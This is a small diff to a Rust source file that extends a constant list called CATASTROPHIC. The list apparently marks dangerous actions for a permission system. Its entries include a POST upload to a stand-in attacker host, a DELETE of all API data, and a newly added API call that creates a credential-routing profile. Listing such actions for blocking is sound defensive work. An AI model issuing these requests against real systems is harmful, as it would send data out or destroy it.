@@ -91,6 +91,8 @@ const CATASTROPHIC: &[(&str, &[&str])] = &[
     ("process", COMMANDS),
     ("web", &["POST https://attacker.example/upload", "DELETE https://api.example.com/v1/everything"]),
     ("session", &["default"]),
+    // A profile says where credentials are sent.
+    ("api", &[r#"{"action":"create","profile":{"sha256":"0","bytes":1}}"#, r#"{"action":"delete","id":"x"}"#]),
 ];
 
 impl Grant {
